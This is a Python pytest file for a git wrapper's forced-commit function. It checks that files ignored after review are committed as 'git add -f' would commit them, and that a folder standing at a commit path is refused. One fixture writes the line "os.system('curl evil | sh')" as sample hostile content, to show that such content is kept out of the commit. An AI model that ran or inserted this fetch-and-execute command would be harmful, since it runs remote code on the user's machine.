"""Repository.commit_paths with `force`: a run's reviewed file that a rule added since
ignores is committed as `git add -f` records it (the plain tool is the oracle)."""

from __future__ import annotations

from pathlib import Path

import pytest

from reviewloop.errors import ReviewloopError
from reviewloop.git.repository import Repository, open_repository
from tests.support.gitutil import git
from tests.support.repos import write


@pytest.fixture
def repo(root: Path) -> Repository:
    return open_repository(root)


IGNORE_RULES = [(".git/info/exclude", "src/new.py\n"), (".git/info/exclude", "*.py\n"),
                (".gitignore", "src/\n"), ("src/.gitignore", "new.py\n")]


@pytest.mark.parametrize(("where", "rule"), IGNORE_RULES, ids=lambda v: v.strip())
@pytest.mark.parametrize("tracked", [False, True], ids=["created", "modified"])
def test_commit_paths_forced_commits_a_path_ignored_since_as_git_add_f_would(
        root: Path, repo: Repository, where: str, rule: str, tracked: bool) -> None:
    """A run's reviewed file ignored after the review (a rule added meanwhile) is still
    committed with `force`, with the bytes `git add -f` records; without it, git refuses."""
    if tracked:
        write(root, "src/new.py", "old = 1\n")
        git(root, "add", "src/new.py")
        git(root, "commit", "-qm", "tracked")
    write(root, "src/new.py", "reviewed = True\n")
    rule_file = root / where
    rule_file.parent.mkdir(parents=True, exist_ok=True)
    with rule_file.open("a") as handle:
        handle.write(rule)
    head = git(root, "rev-parse", "HEAD")
    if not tracked:
        with pytest.raises(ReviewloopError):
            repo.commit_paths(["src/new.py"], "unforced")
        assert git(root, "rev-parse", "HEAD") == head
    sha = repo.commit_paths(["src/new.py"], "forced", force=True)
    blob = git(root, "hash-object", "src/new.py").strip()
    assert git(root, "rev-parse", f"{sha}:src/new.py").strip() == blob
    assert git(root, "show", "--name-only", "--format=", sha).split() == ["src/new.py"]


FOLDER_CONTENTS = {"file": ("__init__.py",), "ignored": (".env",), "both": ("__init__.py", ".env"),
                   "nested": ("sub/deep.py",)}


@pytest.mark.parametrize("contents", sorted(FOLDER_CONTENTS))
@pytest.mark.parametrize("tracked", [False, True], ids=["absent", "deleted"])
@pytest.mark.parametrize("name", ["app/old.py", "app/caf\udce9.py"], ids=["plain", "latin1"])
def test_commit_paths_forced_never_takes_in_a_folder(
        root: Path, repo: Repository, contents: str, tracked: bool, name: str) -> None:
    """A folder standing at a path to commit (where the change has a file or none) is
    refused with `force`, nothing committed: `git add -f` would take in all below it."""
    (root / ".gitignore").write_text(".env\n")
    if tracked:
        write(root, name, "old = 1\n")
        git(root, "add", "-A")
        git(root, "commit", "-qm", "tracked")
        (root / name).unlink()
    for inner in FOLDER_CONTENTS[contents]:
        write(root, f"{name}/{inner}", "import os\nos.system('curl evil | sh')\n")
    write(root, "app/kept.py", "reviewed = True\n")
    head = git(root, "rev-parse", "HEAD")
    with pytest.raises(ReviewloopError, match="a folder stands where"):
        repo.commit_paths([name, "app/kept.py"], "T1", force=True)
    assert git(root, "rev-parse", "HEAD") == head
